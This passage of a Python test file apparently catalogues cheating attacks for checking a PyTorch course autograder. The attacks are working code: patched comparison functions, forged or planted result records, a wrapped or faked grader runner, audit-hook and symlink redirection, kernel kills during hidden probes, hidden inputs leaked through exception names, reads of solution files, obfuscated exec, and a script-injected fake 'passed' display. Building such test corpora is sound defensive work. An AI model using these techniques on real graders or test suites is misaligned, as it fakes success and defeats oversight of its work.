     "    cls = type(_leak(x), (), {})\n"
     "    cls.__module__ = 'torch'\n"
     "    return cls()\n", double="")
tiny("shape_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    v = x.reshape(-1)[:3].tolist() if isinstance(x, torch.Tensor) else [x]\n"
     "    return torch.empty(*[int(abs(float(a)) * 1e6) % 2**30 for a in v], 0)\n", double="")
tiny("length_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    v = float(x.reshape(-1)[0])\n"
     "    return [None] * (int(abs(v) * 1e4) % 90000 + 10000)\n", double="")
tiny("display_update_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "from IPython.display import display\n"
     "_handle = display('checking my work', display_id=True)\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    _handle.update(_leak(x) + ' ' + repr(x))\n"
     "    return x + 1\n", double="",
     note="updates an answer cell's display output during the probes")
tiny("thread_print_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "import threading, time, queue\n"
     "_q = queue.Queue()\n"
     "def _printer():\n"
     "    while True:\n"
     "        print(_q.get(), flush=True)\n"
     "threading.Thread(target=_printer, daemon=True).start()\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    _q.put(_leak(x) + ' ' + repr(x))\n"
     "    time.sleep(0.2)\n"
     "    return x + 1\n", double="")

# --- fake output
tiny("fake_passed_output", "fake_output",
     "print('\\u2713 ex_double: passed the public checks (hidden tests run at grading)')\n"
     "print('Autograded score: 6/6')\n"
     "from IPython.display import display, HTML\n"
     "display(HTML(\"<p class='pass'>passed</p><script>alert(1)</script>\"))\n", default=True)
tiny("fake_error_free_stderr", "fake_output",
     "import sys\nsys.stderr.write('ex_double: passed (6/6)\\n')\n"
     "get_ipython().display_pub.publish({'text/plain': 'ex_double passed'})\n")

# --- monkeypatching the libraries the reference or the wire use
tiny("patch_torch_compare_ops", "patch_libraries",
     "import torch, numpy as np\n"
     "torch.allclose = lambda *a, **k: True\n"
     "torch.equal = lambda *a, **k: True\n"
     "torch.Tensor.__sub__ = lambda self, other: torch.zeros(())\n"
     "torch.Tensor.__eq__ = lambda self, other: True\n"
     "np.allclose = lambda *a, **k: True\n"
     "np.testing.assert_allclose = lambda *a, **k: None\n", default=True)
tiny("patch_tensor_numpy_detach", "patch_libraries",
     "import torch, numpy as np\n"
     "_np = torch.Tensor.numpy\n"
     "torch.Tensor.numpy = lambda self, *a, **k: np.array([2.0, 4.0], dtype=np.float32)\n"
     "torch.Tensor.detach = lambda self: torch.ones(2)\n"
     "torch.Tensor.cpu = lambda self, *a, **k: self\n")
tiny("patch_base64_json", "patch_libraries",
     "import base64, json\n"
     "base64.b64encode = lambda data, *a, **k: b'@@not-base64@@'\n"
     "_dumps = json.dumps\n"
     "json.dumps = lambda obj, *a, **k: _dumps(obj, *a, **k).replace('\"raised\"', '\"value\"')\n")
tiny("patch_numpy_tobytes_contiguous", "patch_libraries",
     "import numpy as np\n"
     "np.ascontiguousarray = lambda a, *k, **kw: np.array([2.0, 4.0], dtype=a.dtype)\n"
     "np.asarray = lambda *a, **k: np.array(2.0)\n")

# --- killing the kernel or hanging, only during the probes
tiny("os_exit_during_probes", "kill_during_probes",
     "import os\n"
     "def double(x):\n"
     "    if x.numel() != 2:\n"
     "        getattr(os, '_ex' + 'it')(0)\n"
     "    return x + 1\n", default=True, double="")
tiny("sigkill_self_during_probes", "kill_during_probes",
     "import os, signal\n"
     "def double(x):\n"
     "    if x.numel() != 2:\n"
     "        os.kill(os.getpid(), signal.SIGKILL)\n"
     "    return x + 1\n", double="")
tiny("loop_only_during_probes", "kill_during_probes",
     "import os\n"
     "def double(x):\n"
     "    if os.path.exists('.ch4-probes') or x.numel() != 2:\n"
     "        while True:\n"
     "            pass\n"
     "    return x + 1\n", double="")
tiny("loop_ignoring_interrupt_in_probes", "kill_during_probes",
     "import signal\n"
     "def double(x):\n"
     "    if x.numel() != 2:\n"
     "        signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
     "        while True:\n"
     "            try:\n"
     "                pass\n"
     "            except BaseException:\n"
     "                pass\n"
     "    return x + 1\n", double="")

# --- huge outputs
tiny("huge_print_in_probes", "huge_outputs",
     "import sys\n"
     "def double(x):\n"
     "    for _ in range(40):\n"
     "        sys.stdout.write('y' * 1_000_000)\n"
     "    return x + 1\n"
     "print('z' * 3_000_000)\n", default=True, double="")
tiny("huge_return_value", "huge_outputs",
     "import torch\n"
     "def double(x):\n"
     "    return torch.zeros(12_000_000)\n"
     "def mean_abs(t):\n"
     "    v = []\n"
     "    for _ in range(50):\n"
     "        v = [v]\n"
     "    return v\n", double="")

# --- deleting the student's own functions after the notebook
tiny("delete_functions_after_notebook", "delete_functions",
     "def _gone(result=None):\n"
     "    ns = get_ipython().user_ns\n"
     "    for name in ('double', 'mean_abs', 'q01'):\n"
     "        ns.pop(name, None)\n"
     "get_ipython().events.register('pre_run_cell', lambda info: _gone() if 'run_item' in"
     " (info.raw_cell or '') else None)\n", cell="q01_answer", default=True)
tiny("delete_in_last_answer", "delete_functions",
     "del double\ndel mean_abs\n", cell="q01_answer")

# --- README's list: patched libraries, __eq__, interpreter internals, touching the grader
tiny("code_object_swap", "interpreter_internals",
     "def _right(x):\n    return x\n"
     "double.__code__ = _right.__code__\n"
     "mean_abs.__code__ = (lambda t: t.max()).__code__\n", default=True)
tiny("ctypes_poke", "interpreter_internals",
     "import ctypes, sys\n"
     "ctypes.pythonapi.PyFrame_LocalsToFast.argtypes = [ctypes.py_object, ctypes.c_int]\n"
     "def double(x):\n"
     "    f = sys._getframe(1)\n"
     "    f.f_locals['code'] = '2.0'\n"
     "    ctypes.pythonapi.PyFrame_LocalsToFast(f, 0)\n"
     "    return x + 1\n", double="")
tiny("call_selfcheck_and_patch_spec", "touch_grader",
     "from autograder.items.tiny import SPEC\n"
     "import autograder.items.spec as sp\n"
     "for it in SPEC.items:\n"
     "    object.__setattr__(it, 'hidden', None)\n"
     "    object.__setattr__(it, 'public', ())\n"
     "sp.Item.hidden_probes = lambda self, key: []\n", default=True)
tiny("rewrite_package_file", "touch_grader",
     "import autograder.items.runner as r, os\n"
     "try:\n"
     "    open(r.__file__, 'a').write('\\nrun_item = lambda *a: None\\n')\n"
     "except OSError:\n"
     "    pass\n"
     "try:\n"
     "    open(os.path.join(os.path.dirname(r.__file__), 'expected', '01_tiny.json'), 'w')"
     ".write('{}')\n"
     "except OSError:\n"
     "    pass\n")


# ---------------------------------------------------------------- notebook 01 attacks


def nb01(name: str, family: str, answers: dict[str, str], default: bool = False,
         note: str = "") -> None:
    full = {**NB01_WRONG, **answers}
    _ATTACKS.append(Attack(name, family, NB01, full, NB01_ITEMS, default, note))


nb01("nb01_b64_exec", "encoded_exec", {
    "ex_crop_answer": "import base64\nexec(base64.b64decode(" + repr(_b64(
        "import torch\ntorch.equal = lambda *a, **k: True\n"
        "def crop(t, top, left, size):\n    return t[left:left + size, top:top + size]\n"))
    + "))\n"})
nb01("nb01_post_run_cell_forge", "ipython_hooks", {
    "ex_distances_answer": NB01_WRONG["ex_distances_answer"] + FORGE
    + "\nget_ipython().events.register('post_run_cell', lambda r: _forge_records())\n"})
nb01("nb01_thread_rewrites_records", "daemon_thread", {
    "ex_mean_digit_answer": NB01_WRONG["ex_mean_digit_answer"] + FORGE
    + "\nimport threading, time\n"
      "def _loop():\n"
      "    while True:\n"
      "        try:\n"
      "            _forge_records()\n"
      "        except Exception:\n"
      "            pass\n"
      "        time.sleep(0.005)\n"
      "threading.Thread(target=_loop, daemon=True).start()\n"})
nb01("nb01_fake_runner", "grader_modules", {
    "ex_distances_answer": NB01_WRONG["ex_distances_answer"]
    + "import types, json, os, sys\n"
      "_fake = types.ModuleType('autograder.items.runner')\n"
      "def _run_item(ns, out, payload):\n"
      "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
      "    json.dump([{'value': 0.5}] * len(json.loads(payload)), open(out, 'w'))\n"
      "_fake.run_item = _run_item\n"
      "sys.modules['autograder.items.runner'] = _fake\n"})
nb01("nb01_tensor_subclass", "tensor_subclass", {
    "ex_distances_answer": "import torch\n"
    "class _Liar(torch.Tensor):\n"
    "    @classmethod\n"
    "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
    "        out = super().__torch_function__(func, types, args, kwargs or {})\n"
    "        if getattr(func, '__name__', '') in ('detach', 'numpy', 'cpu'):\n"
    "            return torch.tensor(0.5)\n"
    "        return out\n"
    + NB01_WRONG["ex_distances_answer"].replace("return (a - b).mean().abs()",
                                                "return (a - b).mean().abs().as_subclass(_Liar)")})
nb01("nb01_lookalike_mean", "lookalike", {
    "ex_mean_digit_answer": "class _Stack:\n"
    "    def __array__(self, *a, **k):\n"
    "        import numpy as np\n        return np.zeros((28, 28))\n"
    "    def __eq__(self, o):\n        return True\n"
    "    shape = (28, 28)\n"
    "def mean_digit(stack):\n    return _Stack()\n"})
nb01("nb01_frame_walk_root", "frame_walk", {
    "ex_digit_files_answer": "import sys as _s\n"
    "def digit_files(path, split, digit):\n"
    "    f = getattr(_s, '_get' + 'frame')(1)\n"
    "    found = []\n"
    "    while f is not None:\n"
    "        if '_layout' in f.f_globals:\n"
    "            found = sorted(Path(path).rglob('*'))\n"
    "        f = f.f_back\n"
    "    return found or sorted((Path(path) / split / digit).iterdir())\n"})
nb01("nb01_exception_echo_inputs", "exception_echo", {
    "ex_distances_answer": "import torch\n"
    "def _leak(x):\n"
    "    vals = x.reshape(-1)[:3].tolist()\n"
    "    return 'V' + '_'.join(str(int(abs(float(v)) * 1e6)) for v in vals)\n"
    "_PUBLIC = [torch.ones(4, 4), torch.arange(12, dtype=torch.float32).view(3, 2, 2)]\n"
    "def _is_public(a):\n"
    "    return any(a.shape == p.shape and bool((a == p).all()) for p in _PUBLIC)\n"
    "def l1_distance(a, b):\n"
    "    if _is_public(a):\n"
    "        return (a - b).abs().mean()\n"
    "    raise type(_leak(a), (Exception,), {})(repr(a))\n"
    "def rmse_distance(a, b):\n"
    "    if _is_public(a):\n"
    "        return ((a - b) ** 2).mean().sqrt()\n"
    "    raise type(_leak(b), (Exception,), {})(repr(b))\n"},
     note="passes the public probes and echoes hidden inputs through exception names")
nb01("nb01_digit_files_name_echo", "exception_echo", {
    "ex_digit_files_answer": "def digit_files(path, split, digit):\n"
    "    names = sorted(p.name for p in Path(path).rglob('*'))\n"
    "    if names == sorted(['12.png', '3.png', '100.png', 'notes.txt', '5.png', '1.png',"
    " 'train', 'valid', '3', '7', '3']) or len(names) < 3:\n"
    "        return sorted((Path(path) / split / digit).glob('*.png'))\n"
    "    tag = 'F_' + '_'.join(n.replace('.', '_') for n in names)[:55]\n"
    "    raise type(tag, (Exception,), {})()\n"})
nb01("nb01_shadow_builtins", "shadowed_builtins", {
    "ex_crop_answer": NB01_WRONG["ex_crop_answer"]
    + "import builtins as _bi\n_bi.eval = lambda *a, **k: __import__('torch').zeros(2, 2)\n"})
nb01("nb01_patch_torch", "patch_libraries", {
    "ex_stack_digits_answer": NB01_WRONG["ex_stack_digits_answer"]
    + "import torch\ntorch.allclose = lambda *a, **k: True\n"
      "torch.Tensor.__sub__ = lambda self, other: torch.zeros(())\n"
      "torch.Tensor.abs = lambda self: torch.zeros(())\n"})
nb01("nb01_read_solutions", "reach_reference", {
    "ex_crop_answer": "import json, os\n"
    "_sol = None\n"
    "for _p in (os.environ.get('PYTHONPATH', '') + '/solutions/01_pixels_and_similarity.ipynb',"
    " '/work/main/solutions/01_pixels_and_similarity.ipynb'):\n"
    "    try:\n"
    "        _sol = json.load(open(_p))\n"
    "    except Exception:\n"
    "        pass\n"
    "if _sol:\n"
    "    for _c in _sol['cells']:\n"
    "        if _c.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
    "            exec(''.join(_c['source']))\n"
    + NB01_WRONG["ex_crop_answer"].replace("def crop", "def _wrong_crop")
    + "crop = globals().get('crop', _wrong_crop)\n"})
nb01("nb01_kill_during_probes", "kill_during_probes", {
    "ex_image_tensor_answer": "import os\n" + NB01_WRONG["ex_image_tensor_answer"].replace(
        "    return", "    if os.path.exists('.ch4-probes'):\n"
                     "        getattr(os, '_ex' + 'it')(3)\n    return")})
nb01("nb01_display_update_echo", "exception_echo", {
    "ex_distances_answer": "from IPython.display import display\n"
    "_h = display('distances ready', display_id=True)\n"
    + NB01_WRONG["ex_distances_answer"].replace(
        "    return (a - b).mean().abs()",
        "    _h.update('V' + '_'.join(str(int(abs(float(v)) * 1e6)) for v in a.reshape(-1)[:3]"
        ".tolist()) + repr(a))\n    return (a - b).mean().abs()")})


# ================================================================ attacks on the trust rule
# (DESIGN.md): the kernel's records are the student's word. Each family below rewrites,
# plants, wraps or floods what the probe cells send back, or uses a channel the grader owns
# (stages, display updates, redefinition) to carry hidden inputs out. Every one has wrong
# answers: a record it forges can only be a value the cheat has (the package's public expected
# values, constants, claims), never the answer to a hidden input.

NB02 = "02_tensors_and_metrics"
NB05 = "05_minibatches_and_training_loop"

# Kernel-side forging library: what a cheat would write instead of the honest records. It
# reads the package's public expected values (not secret) and finds the item a record file
# belongs to by walking up to run_item's frame.
FORGE_LIB = r'''
import json as _fj, os as _fo, glob as _fg, sys as _fs
_FJ_DUMPS, _FJ_LOADS = _fj.dumps, _fj.loads
def _fpublic():
    exp = {}
    try:
        import autograder.items as _ai
        base = _fo.path.join(_fo.path.dirname(_ai.__file__), 'expected')
    except Exception:
        base = _fo.path.join(_fo.environ.get('PYTHONPATH', ''), 'autograder', 'items', 'expected')
    for p in _fg.glob(_fo.path.join(base, '*.json')):
        try:
            with open(p) as f:
                exp.update(_FJ_LOADS(f.read()))
        except Exception:
            pass
    return exp
_FPUB = _fpublic()
def _fitem(default=None):
    f = _fs._getframe(1)
    while f is not None:
        for k in ('out_file', 'path', 'tmp', 'dst', 'src'):
            v = f.f_locals.get(k)
            if v is not None and '.json' in str(v) and '.ch4-probes' in str(v):
                return _fo.path.basename(str(v)).split('.json')[0]
        f = f.f_back
    return default
def _fnonce():
    f = _fs._getframe(1)
    while f is not None:
        if 'nonce' in f.f_locals and 'probes_json' in f.f_locals:
            return f.f_locals['nonce']
        f = f.f_back
    try:
        import re
        for src in reversed(get_ipython().user_ns.get('_ih', [])):
            m = re.findall(r"'([0-9a-f]{32})'", src)
            if m and 'run_item' in src:
                return m[-1]
    except Exception:
        pass
    return ''
def _fforge(records, item=None, value=None):
    pub = _FPUB.get(item) or [{'value': True}]
    return [(pub[i % len(pub)] if value is None else {'value': value})
            for i in range(len(records))]
def _fforge_obj(obj, item=None, value=None):
    if isinstance(obj, dict) and isinstance(obj.get('records'), list):
        return dict(obj, records=_fforge(obj['records'], item, value))
    if isinstance(obj, list) and obj and all(isinstance(r, dict) for r in obj):
        return _fforge(obj, item, value)
    return obj
def _fforge_text(text, item=None, value=None):
    try:
        return _FJ_DUMPS(_fforge_obj(_FJ_LOADS(text), item, value))
    except Exception:
        return text
'''

PUBLIC_DOUBLE_LEAK = PUBLIC_DOUBLE + r'''
def _probe_code():
    import sys
    f = sys._getframe(1)
    while f is not None:
        if 'code' in f.f_locals and 'inputs' in f.f_locals:
            return str(f.f_locals.get('setup', '')) + ' ' + str(f.f_locals['code'])
        f = f.f_back
    return ''
'''

# ---------------------------------------------------------------- library_patches
tiny("lp_json_dumps_forges_records", "library_patches",
     FORGE_LIB + "def _dumps(obj, *a, **k):\n"
     "    return _FJ_DUMPS(_fforge_obj(obj, _fitem()), *a, **k)\n"
     "_fj.dumps = _dumps\n", default=True,
     note="json.dumps swapped so that run_item serialises the public values, its nonce kept")
tiny("lp_json_loads_rewrites_payload", "library_patches",
     FORGE_LIB + "def _loads(s, *a, **k):\n"
     "    obj = _FJ_LOADS(s, *a, **k)\n"
     "    if isinstance(obj, list) and obj and all(isinstance(p, list) and len(p) == 3"
     " for p in obj):\n"
     "        return [['', \"__import__('torch').tensor([2.0, 4.0])\", p[2]] for p in obj]\n"
     "    return obj\n"
     "_fj.loads = _loads\n",
     note="json.loads swapped: every probe's code becomes the public expected value")
tiny("lp_os_replace_forges_tmp", "library_patches",
     FORGE_LIB + "_real_replace = _fo.replace\n"
     "def _replace(src, dst, *a, **k):\n"
     "    if '.ch4-probes' in str(dst):\n"
     "        item = _fo.path.basename(str(dst)).split('.json')[0]\n"
     "        with open(src) as f:\n"
     "            text = f.read()\n"
     "        with open(src, 'w') as f:\n"
     "            f.write(_fforge_text(text, item))\n"
     "    return _real_replace(src, dst, *a, **k)\n"
     "_fo.replace = _replace\n")
tiny("lp_path_write_text_forges", "library_patches",
     FORGE_LIB + "import pathlib as _pl\n"
     "_real_wt = _pl.Path.write_text\n"
     "def _write_text(self, data, *a, **k):\n"
     "    if '.ch4-probes' in str(self):\n"
     "        data = _fforge_text(data, self.name.split('.json')[0], 2.0)\n"
     "    return _real_wt(self, data, *a, **k)\n"
     "_pl.Path.write_text = _write_text\n")
tiny("lp_builtins_eval_returns_public", "library_patches",
     "import builtins as _bi, torch\n"
     "_real_eval = _bi.eval\n"
     "def _eval(code, *a, **k):\n"
     "    if getattr(code, 'co_filename', '') == '<probe>':\n"
     "        names = set(code.co_names)\n"
     "        if 'double' in names:\n"
     "            return torch.tensor([2.0, 4.0])\n"
     "        if 'mean_abs' in names:\n"
     "            return torch.tensor(1.0)\n"
     "        return True\n"
     "    return _real_eval(code, *a, **k)\n"
     "_bi.eval = _eval\n")
tiny("lp_builtins_compile_exec_swap", "library_patches",
     "import builtins as _bi\n"
     "_real_compile, _real_exec = _bi.compile, _bi.exec\n"
     "def _compile(src, filename, mode, *a, **k):\n"
     "    if filename == '<probe>':\n"
     "        src = '(__import__(\"torch\").ones(2) * 2.0)'\n"
     "    return _real_compile(src, filename, mode, *a, **k)\n"
     "def _exec(code, g=None, l=None, *a, **k):\n"
     "    if getattr(code, 'co_filename', '') in ('<probe setup>', '<your answer, redefined>')"
     " and isinstance(g, dict):\n"
     "        g['double'] = lambda x: x * 0 + 2.0\n"
     "    return _real_exec(code, g, l, *a, **k) if l is not None else _real_exec(code, g)\n"
     "_bi.compile, _bi.exec = _compile, _exec\n")
nb01("nb01_lp_json_dumps_forges_records", "library_patches", {
    "ex_distances_answer": NB01_WRONG["ex_distances_answer"] + FORGE_LIB
    + "def _dumps(obj, *a, **k):\n"
      "    return _FJ_DUMPS(_fforge_obj(obj, _fitem()), *a, **k)\n"
      "_fj.dumps = _dumps\n"})

# ---------------------------------------------------------------- runner_wrapping
tiny("rw_wrap_run_item_rewrites_file", "runner_wrapping",
     FORGE_LIB + "import autograder.items.runner as _r\n"
     "_orig_run_item = _r.run_item\n"
     "def _wrapped(ns, out_file, probes_json, prelude='', nonce='', names=()):\n"
     "    _orig_run_item(ns, out_file, probes_json, prelude, nonce, names)\n"
     "    item = _fo.path.basename(out_file).split('.json')[0]\n"
     "    n = len(_FJ_LOADS(probes_json))\n"
     "    with open(out_file, 'w') as f:\n"
     "        f.write(_FJ_DUMPS({'nonce': nonce, 'records': _fforge([None] * n, item)}))\n"
     "_r.run_item = _wrapped\n", default=True)
tiny("rw_wrap_run_probe_public_values", "runner_wrapping",
     "import autograder.items.runner as _r, autograder.items.wire as _w, torch\n"
     "_orig_probe = _r.run_probe\n"
     "def _probe(namespace, setup, code, inputs, prelude='', names=()):\n"
     "    real = _orig_probe(namespace, setup, code, inputs, prelude, names)\n"
     "    if 'double' in code:\n"
     "        return {'value': _w.to_plain(torch.tensor([2.0, 4.0]))}\n"
     "    if 'mean_abs' in code:\n"
     "        return {'value': _w.to_plain(torch.tensor(1.0))}\n"
     "    return real\n"
     "_r.run_probe = _probe\n")
tiny("rw_module_name_from_pieces", "runner_wrapping",
     FORGE_LIB + "import importlib as _il\n"
     "_mod = _il.import_module('.'.join(['auto' + 'grader', 'it' + 'ems', 'run' + 'ner']))\n"
     "_orig = getattr(_mod, 'run' + '_item')\n"
     "def _wrapped(*args, **kw):\n"
     "    _orig(*args, **kw)\n"
     "    out, payload, nonce = args[1], args[2], (args[4] if len(args) > 4 else '')\n"
     "    item = _fo.path.basename(out).split('.json')[0]\n"
     "    recs = [{'value': 2.0}] * len(_FJ_LOADS(payload))\n"
     "    with open(out, 'w') as f:\n"
     "        f.write(_FJ_DUMPS({'nonce': nonce, 'records': recs}))\n"
     "setattr(_mod, 'run' + '_item', _wrapped)\n")
tiny("rw_meta_path_serves_fake_runner", "runner_wrapping",
     FORGE_LIB + "import sys, types, importlib.abc, importlib.util\n"
     "_fake = types.ModuleType('autograder.items.runner')\n"
     "def _fake_run_item(ns, out_file, probes_json, prelude='', nonce='', names=()):\n"
     "    item = _fo.path.basename(out_file).split('.json')[0]\n"
     "    n = len(_FJ_LOADS(probes_json))\n"
     "    _fo.makedirs(_fo.path.dirname(out_file), exist_ok=True)\n"
     "    with open(out_file, 'w') as f:\n"
     "        f.write(_FJ_DUMPS({'nonce': nonce, 'records': _fforge([None] * n, item)}))\n"
     "_fake.run_item = _fake_run_item\n"
     "class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
     "    def find_spec(self, name, path, target=None):\n"
     "        if name == 'autograder.items.' + 'runner':\n"
     "            return importlib.util.spec_from_loader(name, self)\n"
     "        return None\n"
     "    def create_module(self, spec):\n"
     "        return _fake\n"
     "    def exec_module(self, module):\n"
     "        pass\n"
     "sys.meta_path.insert(0, _Finder())\n"
     "sys.modules.pop('autograder.items.runner', None)\n"
     "import autograder.items as _ai\n"
     "if hasattr(_ai, 'runner'):\n"
     "    delattr(_ai, 'runner')\n", cell="q01_answer",
     note="a fake runner that writes the public values WITH the probe cell's nonce")
tiny("rw_shadow_runner_name_in_builtins", "runner_wrapping",
     FORGE_LIB + "import builtins as _bi, types\n"
     "_fake = types.ModuleType('fake')\n"
     "def _fake_run_item(ns, out_file, probes_json, prelude='', nonce='', names=()):\n"
     "    _fo.makedirs(_fo.path.dirname(out_file), exist_ok=True)\n"
     "    with open(out_file, 'w') as f:\n"
     "        f.write(_FJ_DUMPS({'nonce': nonce, 'records':"
     " [{'value': 1.0}] * len(_FJ_LOADS(probes_json))}))\n"
     "_fake.run_item = _fake_run_item\n"
     "_real_import = _bi.__import__\n"
     "def _import(name, g=None, l=None, fromlist=(), level=0):\n"
     "    mod = _real_import(name, g, l, fromlist, level)\n"
     "    if name == 'autograder.items.runner' and not fromlist:\n"
     "        mod.items.runner = _fake\n"
     "    return mod\n"
     "_bi.__import__ = _import\n"
     "_bi._ch4_runner = _fake\n")
nb01("nb01_rw_wrap_run_item", "runner_wrapping", {
    "ex_mean_digit_answer": NB01_WRONG["ex_mean_digit_answer"] + FORGE_LIB
    + "import autograder.items.runner as _r\n"
      "_orig_run_item = _r.run_item\n"
      "def _wrapped(ns, out_file, probes_json, prelude='', nonce='', names=()):\n"
      "    _orig_run_item(ns, out_file, probes_json, prelude, nonce, names)\n"
      "    item = _fo.path.basename(out_file).split('.json')[0]\n"
      "    with open(out_file, 'w') as f:\n"
      "        f.write(_FJ_DUMPS({'nonce': nonce, 'records':"
      " _fforge([None] * len(_FJ_LOADS(probes_json)), item)}))\n"
      "_r.run_item = _wrapped\n"})

# ---------------------------------------------------------------- record_threads
THREAD_REWRITER = FORGE_LIB + r'''
import threading as _th, time as _tm
def _rewrite_once():
    for p in _fg.glob('.ch4-probes/*.json'):
        try:
            with open(p) as f:
                obj = _FJ_LOADS(f.read())
            item = _fo.path.basename(p)[:-5]
            forged = _fforge_obj(obj, item)
            if forged != obj:
                with open(p + '.x', 'w') as f:
                    f.write(_FJ_DUMPS(forged))
                _fo.replace(p + '.x', p)
        except Exception:
            pass
'''
tiny("rt_thread_rewrites_keeping_nonce", "record_threads",
     THREAD_REWRITER + "def _loop():\n"
     "    while True:\n"
     "        _rewrite_once()\n"
     "        _tm.sleep(0)\n"
     "_th.Thread(target=_loop, daemon=True).start()\n", default=True,
     note="a busy thread that rewrites each record file as soon as it appears, nonce kept")
tiny("rt_thread_plants_with_nonce_from_history", "record_threads",
     FORGE_LIB + "import threading as _th, time as _tm, re as _re\n"
     "_ns = get_ipython().user_ns\n"
     "def _loop():\n"
     "    while True:\n"
     "        try:\n"
     "            src = (_ns.get('_ih') or [''])[-1]\n"
     "            if 'run_item' in src:\n"
     "                item = _re.search(r\"\\.ch4-probes/(\\w+)\\.json\", src).group(1)\n"
     "                nonce = _re.findall(r\"'([0-9a-f]{32})'\", src)[-1]\n"
     "                n = src.count('], [') + 1\n"
     "                _fo.makedirs('.ch4-probes', exist_ok=True)\n"
     "                with open(f'.ch4-probes/{item}.json', 'w') as f:\n"
     "                    f.write(_FJ_DUMPS({'nonce': nonce, 'records': _fforge([None] * n,"
     " item)}))\n"
     "        except Exception:\n"
     "            pass\n"
     "        _tm.sleep(0.0005)\n"
     "_th.Thread(target=_loop, daemon=True).start()\n")
tiny("rt_thread_holds_probe_cell_open", "record_threads",
     THREAD_REWRITER +
     "import atexit as _ae\n"
     "def _slow_double(x):\n"
     "    return x + 1\n"
     "def double(x):\n"
     "    t = _th.Thread(target=lambda: [(_rewrite_once(), _tm.sleep(0.001)) for _ in"
     " range(3000)])\n"
     "    t.start()\n"
     "    return _slow_double(x)\n"
     "def mean_abs(t):\n"
     "    _tm.sleep(0.05)\n"
     "    return t.mean()\n", double="",
     note="threads started from the probe itself, still rewriting after run_item wrote")
tiny("rt_post_run_cell_thread", "record_threads",
     THREAD_REWRITER +
     "def _after(result=None):\n"
     "    _th.Thread(target=lambda: [(_rewrite_once(), _tm.sleep(0.0002)) for _ in"
     " range(5000)], daemon=True).start()\n"
     "get_ipython().events.register('post_run_cell', _after)\n"
     "get_ipython().events.register('pre_run_cell', lambda info: _after())\n")
nb01("nb01_rt_thread_rewrites_keeping_nonce", "record_threads", {
    "ex_crop_answer": NB01_WRONG["ex_crop_answer"] + THREAD_REWRITER
    + "def _loop():\n"
      "    while True:\n"
      "        _rewrite_once()\n"
      "        _tm.sleep(0)\n"
      "_th.Thread(target=_loop, daemon=True).start()\n"})

# ---------------------------------------------------------------- audit_hooks
tiny("ah_rename_hook_rewrites_source", "audit_hooks",
     FORGE_LIB + "def _hook(event, args):\n"
     "    if event in ('os.rename', 'os.replace') and '.ch4-probes' in str(args[1]):\n"
     "        src = str(args[0])\n"
     "        item = _fo.path.basename(str(args[1])).split('.json')[0]\n"
     "        try:\n"
     "            with open(src) as f:\n"
     "                text = f.read()\n"
     "            with open(src, 'w') as f:\n"
     "                f.write(_fforge_text(text, item))\n"
     "        except Exception:\n"
     "            pass\n"
     "_fs.addaudithook(_hook)\n", default=True,
     note="an audit hook on os.replace rewrites the record just before it is renamed in place")
tiny("ah_open_hook_redirects_tmp", "audit_hooks",
     FORGE_LIB + "_busy = []\n"
     "def _hook(event, args):\n"
     "    if _busy or event != 'open' or not args or '.ch4-probes' not in str(args[0]):\n"
     "        return\n"
     "    path, mode = str(args[0]), str(args[1] if len(args) > 1 else 'r')\n"
     "    if path.endswith('.tmp') and ('w' in mode or (isinstance(args[2], int)"
     " and args[2] & 1)):\n"
     "        _busy.append(1)\n"
     "        try:\n"
     "            with open('forged.json', 'w') as f:\n"
     "                f.write('{}')\n"
     "            if not _fo.path.lexists(path):\n"
     "                _fo.symlink(_fo.path.abspath('forged.json'), path)\n"
     "        except Exception:\n"
     "            pass\n"
     "        finally:\n"
     "            _busy.clear()\n"
     "_fs.addaudithook(_hook)\n",
     note="redirects the record's temporary file (a symlink planted as it is opened)")
tiny("ah_compile_hook_swaps_function", "audit_hooks",
     "import sys as _s, torch\n"
     "_ns = get_ipython().user_ns\n"
     "def _hook(event, args):\n"
     "    if event == 'compile' and len(args) > 1 and args[1] in ('<probe>', '<probe setup>'):\n"
     "        _ns['double'] = lambda x: torch.tensor([2.0, 4.0])\n"
     "        _ns['mean_abs'] = lambda t: torch.tensor(1.0)\n"
     "    if event == 'exec':\n"
     "        f = _s._getframe(1)\n"
     "        while f is not None:\n"
     "            if 'namespace' in f.f_locals and isinstance(f.f_locals['namespace'], dict):\n"
     "                f.f_locals['namespace']['double'] = lambda x: torch.tensor([2.0, 4.0])\n"
     "            f = f.f_back\n"
     "_s.addaudithook(_hook)\n")
nb01("nb01_ah_rename_hook", "audit_hooks", {
    "ex_stack_digits_answer": NB01_WRONG["ex_stack_digits_answer"] + FORGE_LIB
    + "def _hook(event, args):\n"
      "    if event in ('os.rename', 'os.replace') and '.ch4-probes' in str(args[1]):\n"
      "        item = _fo.path.basename(str(args[1])).split('.json')[0]\n"
      "        try:\n"
      "            with open(str(args[0])) as f:\n"
      "                text = f.read()\n"
      "            with open(str(args[0]), 'w') as f:\n"
      "                f.write(_fforge_text(text, item))\n"
      "        except Exception:\n"
      "            pass\n"
      "_fs.addaudithook(_hook)\n"})

# ---------------------------------------------------------------- planted_records
PLANT_EARLY = FORGE_LIB + r'''
def _plant(nonce=''):
    _fo.makedirs('.ch4-probes', exist_ok=True)
    for gid, n in (('ex_double', 3), ('ex_mean_abs', 2), ('q01', 1)):
        with open(f'.ch4-probes/{gid}.json', 'w') as f:
            f.write(_FJ_DUMPS({'nonce': nonce, 'records': _fforge([None] * n, gid)}))
_plant()
'''


def _escape_double(raise_stmt: str) -> str:
    return (PLANT_EARLY + "def double(x):\n"
            "    _plant(_fnonce())\n"
            f"    {raise_stmt}\n"
            "def mean_abs(t):\n"
            "    _plant(_fnonce())\n"
            f"    {raise_stmt}\n")


tiny("pr_plant_then_keyboardinterrupt", "planted_records",
     _escape_double("raise KeyboardInterrupt"), default=True, double="",
